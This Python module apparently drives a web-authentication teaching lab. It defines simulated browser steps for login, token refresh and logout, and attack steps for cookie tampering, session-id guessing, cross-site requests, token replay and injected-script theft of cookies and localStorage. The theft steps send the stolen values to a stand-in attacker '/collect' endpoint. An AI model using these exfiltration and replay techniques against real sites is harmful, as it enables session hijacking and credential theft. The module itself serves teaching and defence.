"""What each step kind does, using the browsers the way a person and a page would.

Actions only act; the engine records what they caused (through event subscriptions) and
checks the step's expectations afterwards.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlencode

from tutor.browser.browser import Browser
from tutor.browser.events import Exchange
from tutor.browser.webcrypto import PageKey, dpop_proof
from tutor.scenes.model import Step
from tutor.scenes.step_io import Action, StepFailed, StepIO
from tutor.scenes.step_io import response_json as _json
from tutor.scenes.token_actions import retire_key, rotate_keys, tamper_token
from tutor.scenes.world import World
from tutor.server.modes import ServerMode, all_modes
from tutor.server.signed import read_unverified

__all__ = ["ACTION_RUNNERS", "Action", "StepFailed", "StepIO", "cross_site_request", "login"]


def _mode(world: World) -> ServerMode:
    return world.scene.server.server_mode


def _keeps_tokens(world: World) -> bool:
    """The site's page keeps the credential in localStorage (else the jar holds a cookie)."""
    return _mode(world).browser_keeps == "localStorage"


async def _on_site(world: World, browser: Browser) -> None:
    """A page script can only run on a page: open the site's page first if needed."""
    if browser.page_origin != world.site:
        await browser.navigate(world.url("/"))


def _tokens(world: World, browser: Browser) -> dict[str, str]:
    """The tokens the site's page keeps: in web storage, or in a script variable."""
    place = world.scene.page_keeps
    if place == "memory":
        return dict(world.pages[browser.name].tokens)
    return browser.storage(place, world.site)


def _put_token(world: World, browser: Browser, key: str, value: str | None) -> None:
    """Where the page script keeps a token (`page_keeps`); None deletes it."""
    place = world.scene.page_keeps
    if place != "memory":
        browser.store(place, world.site, key, value)
        return
    tokens = world.pages[browser.name].tokens
    if value is None:
        tokens.pop(key, None)
    else:
        tokens[key] = value


def _dpop(world: World) -> bool:
    """The server binds tokens to the page's key: every request carries a DPoP proof."""
    return world.scene.server.dpop


def _proof(world: World, browser: Browser, method: str, url: str,
           access_token: str | None = None) -> dict[str, str]:
    """The `DPoP` header the site's script adds when the server wants one (RFC 9449 §4.1),
    signed by the browser with the page's non-extractable key."""
    if not _dpop(world):
        return {}
    proof = browser.script().dpop_proof(method, url, access_token)
    world.pages[browser.name].last_dpop_proof = proof
    return {"DPoP": proof}


def _auth_headers(world: World, step: Step, browser: Browser, method: str,
                  url: str) -> dict[str, str]:
    """What the site's own script adds: the stored token (with a DPoP proof when the
    server binds tokens to a key), or the CSRF token on writes."""
    headers: dict[str, str] = {}
    if _keeps_tokens(world):
        token = _tokens(world, browser).get("access_token")
        if token and _dpop(world):
            headers["Authorization"] = f"DPoP {token}"
            headers.update(_proof(world, browser, method, url, token))
        elif token:
            headers["Authorization"] = f"{_mode(world).auth_scheme} {token}"
    elif method not in ("GET", "HEAD"):
        csrf = world.pages[browser.name].csrf_token
        if csrf:
            headers["X-CSRF-Token"] = csrf
    return headers


def _keep_tokens(world: World, browser: Browser, body: Mapping[str, Any]) -> None:
    """The page script saves tokens where the scene's page keeps them (`page_keeps`)."""
    page = world.pages[browser.name]
    if "access_token" in body:
        old = _tokens(world, browser).get("refresh_token")
        if old:
            page.previous_refresh_token = old
        _put_token(world, browser, "access_token", str(body["access_token"]))
        if "refresh_token" in body:  # modes without refresh tokens hand out one token
            _put_token(world, browser, "refresh_token", str(body["refresh_token"]))
    if "csrf_token" in body:
        page.csrf_token = str(body["csrf_token"])


async def visit(world: World, step: Step, io: StepIO) -> None:
    # Loading a page starts its script afresh: tokens kept in a variable are gone.
    world.pages[step.actor].tokens.clear()
    await world.browser(step.actor).navigate(world.url(step.params["path"]))


async def login(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    username = step.params.get("username", "alice")
    password = step.params.get("password", "wonderland")
    # The page is there before anyone can type into it.
    await _on_site(world, browser)
    io.user(f"{step.actor} types {username} and a password into the login form", 1)
    via = step.params.get("via") or _mode(world).login_via
    io.primary()
    audience = step.params.get("audience")
    if audience is not None and via != "json":
        raise StepFailed("a login for another audience is sent by script (via: json)")
    if via == "json":
        body = {"username": username, "password": password}
        if audience is not None:
            body["audience"] = audience
        url = world.url("/login")
        result = await browser.fetch(url, "POST", headers=_proof(world, browser, "POST", url),
                                     json=body)
        if isinstance(result, Exchange) and result.response.status == 200:
            _keep_tokens(world, browser, _json(result))
        return
    if _keeps_tokens(world):
        raise StepFailed(f"{_mode(world).name} mode logs in with a script (via: json), "
                         "not a form post")
    exchanges = await browser.submit_form(world.url("/login"),
                                          {"username": username, "password": password})
    _keep_tokens(world, browser, _json(exchanges[-1]))


async def request(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    params = step.params
    method = str(params.get("method", "GET")).upper()
    credential = params.get("credential", "auto")
    url = world.url(params["path"])
    if params.get("via") == "navigate":
        if credential == "none":
            raise StepFailed("a navigation always sends the jar's cookies; use via: fetch")
        io.primary()
        if method == "GET":
            await browser.navigate(url, from_page=browser.page_origin == world.site)
        else:
            await browser.submit_form(url, {k: str(v) for k, v in params.get("form", {}).items()},
                                      method)
        return
    await _on_site(world, browser)
    headers = _auth_headers(world, step, browser, method, url) if credential == "auto" else {}
    headers.update({str(k): str(v) for k, v in params.get("headers", {}).items()})
    io.primary()
    body = None
    if "form" in params:
        body = urlencode({str(k): str(v) for k, v in params["form"].items()})
        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
    result = await browser.fetch(
        url, method, headers=headers, body=body, json=params.get("json"),
        credentials="omit" if credential == "none" else "same-origin",
    )
    _keep_tokens(world, browser, _json(result))


async def logout(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    await _on_site(world, browser)
    url = world.url("/logout")
    headers = _auth_headers(world, step, browser, "POST", url)
    if step.params.get("csrf_token") is False:
        headers.pop("X-CSRF-Token", None)
    io.primary()
    await browser.fetch(url, "POST", headers=headers)
    if _keeps_tokens(world) and step.params.get("forget_token", True):
        # The page deletes its copies; this revokes nothing on the server by itself.
        _put_token(world, browser, "access_token", None)
        _put_token(world, browser, "refresh_token", None)


async def refresh(world: World, step: Step, io: StepIO) -> None:
    if not (_mode(world).signs_tokens and _keeps_tokens(world)):
        # In bff and jwt-cookie modes the server has refresh tokens, but the page never does.
        modes = " or ".join(mode.name for mode in all_modes()
                            if mode.signs_tokens and mode.browser_keeps == "localStorage")
        raise StepFailed(f"refresh tokens exist only in {modes} mode")
    browser = world.browser(step.actor)
    await _on_site(world, browser)
    which = step.params.get("token", "current")
    if which == "previous":
        token = world.pages[browser.name].previous_refresh_token
    elif which == "captured":
        # A thief's client presenting a copied refresh token, as its own.
        token = world.captured.get("refresh_token")
    else:
        token = _tokens(world, browser).get("refresh_token")
    if not token:
        raise StepFailed("no refresh token to use: log in (and refresh once for `previous`, "
                         "or capture one for `captured`)")
    url = world.url("/refresh")
    headers = _proof(world, browser, "POST", url)
    io.primary()
    result = await browser.fetch(url, "POST", headers=headers, json={"refresh_token": token})
    if isinstance(result, Exchange) and result.response.status == 200:
        _keep_tokens(world, browser, _json(result))


async def advance_clock(world: World, step: Step, io: StepIO) -> None:
    seconds = step.params["seconds"]
    if seconds < 0:
        raise StepFailed("the clock only moves forward")
    before = world.clock.now()
    world.clock.advance(seconds)
    io.clock_moved(before, world.clock.now())
    world.server.sweep()
    for browser in world.browsers.values():
        browser.expire_cookies()


async def tamper_cookie(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    name = step.params.get("name") or _session_cookie_name(world, browser)
    cookie = next((c for c in browser.jar.cookies() if c.name == name), None)
    if cookie is None:
        raise StepFailed(f"no cookie {name!r} in the jar to tamper with")
    data = read_unverified(cookie.value)
    if data is None:
        raise StepFailed(f"cookie {name!r} does not hold readable session data")
    data.update(step.params["set"])
    payload = base64.urlsafe_b64encode(json.dumps(data, separators=(",", ":")).encode())
    rest = cookie.value.split(".", 1)[1]
    io.user(f"{step.actor} edits the {name} cookie in devtools, keeping its signature")
    browser.jar.devtools_set(cookie, f"{payload.decode()}.{rest}")


async def guess_session_id(world: World, step: Step, io: StepIO) -> None:
    """The attacker reads their own session id and works out a neighbour's: easy when
    ids are numbered in sequence, hopeless when they are 256 random bits."""
    browser = world.browser(step.actor)
    name = _session_cookie_name(world, browser)
    own = next(c.value for c in browser.jar.cookies() if c.name == name)
    offset = int(step.params.get("offset", -1))
    if own.isdigit():
        guess = f"{max(int(own) + offset, 0):0{len(own)}d}"
    else:
        # Random ids have no neighbours: the best a guess can do is change a character.
        guess = own[:-1] + ("B" if own[-1] == "A" else "A")
    io.user(f"{step.actor} reads their own session id ({_short(own)}) and guesses "
            f"{_short(guess)}")
    world.captured = {name: guess}


def _short(value: str) -> str:
    return value if len(value) <= 12 else f"{value[:8]}…"


def _session_cookie_name(world: World, browser: Browser) -> str:
    names = {c.name for c in browser.jar.cookies()}
    for candidate in ("__Host-session", "session", "__Host-sid", "sid"):
        if candidate in names:
            return candidate
    raise StepFailed("no session cookie in the jar")


async def cross_site_request(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    origin = step.params.get("from", world.attacker_origin)
    io.user(f"{step.actor} opens a page on {origin}")
    await browser.navigate(f"{origin}/")
    url = world.url(step.params["path"])
    method = str(step.params.get("method", "POST")).upper()
    fields = {str(k): str(v) for k, v in step.params.get("fields", {}).items()}
    kind = step.params.get("kind", "form")
    io.primary()
    if kind == "form":
        await browser.submit_form(url, fields, method)
    elif kind == "navigate":
        await browser.navigate(url, from_page=True)
    else:
        body = urlencode(fields) if fields else None
        headers = {"Content-Type": "application/x-www-form-urlencoded"} if fields else {}
        await browser.fetch(url, method, headers=headers, body=body, credentials="include")


async def xss_steal(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    await _on_site(world, browser)
    reads = step.params.get("read", ["document.cookie", "localStorage"])
    reads = [reads] if isinstance(reads, str) else reads
    io.user(f"an injected script runs in {world.site}'s page")
    script = browser.script()
    for what in reads:
        if what == "document.cookie":
            value = script.document_cookie()
        elif what in ("localStorage", "sessionStorage"):
            value = json.dumps(script.storage(what), sort_keys=True)
        elif what == "dpop key":
            # The script tries crypto.subtle.exportKey and gets only the refusal.
            value = script.export_dpop_key()
        else:
            raise StepFailed(f"a script can read document.cookie, localStorage, "
                             f"sessionStorage or try the dpop key, not {what!r}")
        query = urlencode({"what": what, "value": value})
        await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET",
                           credentials="omit")


async def xss_request(world: World, step: Step, io: StepIO) -> None:
    """An injected script calls the site's API as the page's own script does (its token,
    and with DPoP a fresh proof from the page's key), then sends the answer to evil.test."""
    browser = world.browser(step.actor)
    await _on_site(world, browser)
    method = str(step.params.get("method", "GET")).upper()
    path = step.params["path"]
    io.user(f"an injected script in {world.site}'s page calls {method} {path} itself")
    url = world.url(path)
    headers = _auth_headers(world, step, browser, method, url)
    script = browser.script()
    io.primary()
    result = await script.fetch(url, method, headers=headers)
    answer = (result.response.body.decode("utf-8", "replace")[:500]
              if isinstance(result, Exchange) else "blocked")
    query = urlencode({"what": "api response", "value": answer})
    await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET", credentials="omit")


async def capture(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    io.user(f"a copy of {step.actor}'s credentials is taken (a shared computer, a log, a proxy)")
    world.captured = {c.name: c.value for c in browser.jar.cookies()}
    world.captured.update(_tokens(world, browser))
    proof = world.pages[browser.name].last_dpop_proof
    if proof:
        # A proxy or a log sees the DPoP header too; never the key that signed it.
        world.captured["dpop_proof"] = proof


async def set_cookie(world: World, step: Step, io: StepIO) -> None:
    """A lab site answers with the given Set-Cookie lines: opened by the user, or fetched
    by the script of a page on `from` (a third-party context when the sites differ)."""
    browser = world.browser(step.actor)
    lines = step.params["cookie"]
    lines = [lines] if isinstance(lines, str) else [str(line) for line in lines]
    url = world.url(step.params["url"]).rstrip("/")
    target = f"{url}/set?{urlencode([('cookie', line) for line in lines])}"
    page = step.params.get("from")
    if page is None:
        io.primary()
        await browser.navigate(target)
        return
    if browser.page_origin != page.rstrip("/"):
        await browser.navigate(f"{page.rstrip('/')}/")
    io.primary()
    await browser.fetch(target, str(step.params.get("method", "GET")), credentials="include")


async def plant_cookie(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    name = step.params["name"]
    value = step.params.get("value") or world.captured.get(name)
    if not value:
        raise StepFailed(f"no value for {name!r}: give `value` or capture one first")
    scheme, host = world.site.split("://", 1)
    host = host.split(":")[0]
    secure = "; Secure" if scheme == "https" else ""
    if step.params.get("via", "subdomain") == "subdomain":
        sibling = f"{scheme}://attacker.{host}/"
        io.user(f"{step.actor} visits {sibling}, a subdomain the attacker controls, "
                f"which sets a cookie for all of {host}")
        browser.receive_cookie_from(sibling, f"{name}={value}; Domain={host}; Path=/{secure}")
    else:
        await _on_site(world, browser)
        io.user(f"an injected script on {world.site} writes document.cookie")
        browser.script().set_cookie(f"{name}={value}; Path=/{secure}")


async def replay(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    use = step.params.get("use", "captured")
    headers: dict[str, str] = {}
    if use == "document.cookie":
        loot = world.attacker.latest("document.cookie")
        if loot is None:
            raise StepFailed("the attacker has stolen no document.cookie: add an xss_steal step")
        if loot.value:  # HttpOnly hid the session cookie: then there is nothing to send
            headers["Cookie"] = loot.value
    elif use in ("localStorage", "sessionStorage"):
        loot = world.attacker.latest(use)
        if loot is None:
            raise StepFailed(f"the attacker has stolen no {use}: add an xss_steal step")
        token = json.loads(loot.value).get("access_token")
        if token:
            headers["Authorization"] = f"{_replay_scheme(world, step)} {token}"
    else:
        if not world.captured:
            raise StepFailed("nothing was captured: add a `capture` step first")
        if "access_token" in world.captured:
            headers["Authorization"] = (f"{_replay_scheme(world, step)} "
                                        f"{world.captured['access_token']}")
        cookies = {k: v for k, v in world.captured.items()
                   if k not in ("access_token", "refresh_token", "dpop_proof")}
        if cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    io.user(f"{step.actor} replays the credential with a plain HTTP client")
    method = str(step.params.get("method", "GET")).upper()
    url = world.url(step.params["path"])
    headers.update(_replay_proof(world, step, method, url, headers))
    io.primary()
    await browser.send_raw(method, url, headers)


def _replay_scheme(world: World, step: Step) -> str:
    """How the thief sends a stolen token: as the site's page would, unless told."""
    default = "DPoP" if _dpop(world) else "Bearer"
    return str(step.params.get("scheme", default))


def _replay_proof(world: World, step: Step, method: str, url: str,
                  headers: Mapping[str, str]) -> dict[str, str]:
    """The thief's DPoP header: none, the victim's copied one, or one they sign with a key
    of their own (they never hold the victim's: it cannot be exported)."""
    how = step.params.get("dpop", "none")
    if how == "captured":
        proof = world.captured.get("dpop_proof")
        if not proof and not _dpop(world):
            return {}  # a bearer server's traffic has no DPoP header to copy
        if not proof:
            raise StepFailed("no DPoP proof was captured: capture after a request that "
                             "carried one")
        return {"DPoP": proof}
    if how == "own_key":
        token = headers.get("Authorization", " ").split(" ", 1)[1] or None
        return {"DPoP": dpop_proof(PageKey(), method, url, world.clock.now(), token)}
    return {}


async def switch_replica(world: World, step: Step, io: StepIO) -> None:
    name = step.params["replica"]
    if name in ("round-robin", "any"):
        io.user("the balancer goes back to round-robin across the replicas")
        world.pin_replica(None)
        return
    io.user(f"the balancer now sends {step.actor}'s requests to replica {name.upper()}")
    try:
        world.pin_replica(name.upper())
    except KeyError as exc:
        raise StepFailed(str(exc.args[0])) from None


async def change_password(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    await _on_site(world, browser)
    io.user(f"{step.actor} changes their password")
    io.primary()
    url = world.url("/password")
    result = await browser.fetch(
        url, "POST", headers=_auth_headers(world, step, browser, "POST", url),
        json={"current_password": step.params.get("current", "wonderland"),
              "new_password": step.params["new"]},
    )
    _keep_tokens(world, browser, _json(result))


async def clear_credential(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    io.user(f"{step.actor}'s client deletes its copy of the credential")
    if _keeps_tokens(world):
        _put_token(world, browser, "access_token", None)
        _put_token(world, browser, "refresh_token", None)
    else:
        browser.clear_site_cookies(world.site)


async def restart_browser(world: World, step: Step, io: StepIO) -> None:
    io.user(f"{step.actor} closes and reopens the browser")
    world.pages[step.actor].tokens.clear()
    world.browser(step.actor).restart()


# What each step kind does (the parameters each one takes: `model.ACTION_PARAMETERS`).
ACTION_RUNNERS: dict[str, Action] = {
    "visit": visit, "login": login, "request": request, "logout": logout,
    "refresh": refresh, "advance_clock": advance_clock, "tamper_token": tamper_token,
    "tamper_cookie": tamper_cookie, "cross_site_request": cross_site_request,
    "xss_steal": xss_steal, "xss_request": xss_request, "capture": capture,
    "plant_cookie": plant_cookie, "replay": replay, "set_cookie": set_cookie,
    "switch_replica": switch_replica, "change_password": change_password,
    "clear_credential": clear_credential, "restart_browser": restart_browser,
    "rotate_keys": rotate_keys, "retire_key": retire_key, "guess_session_id": guess_session_id,
}
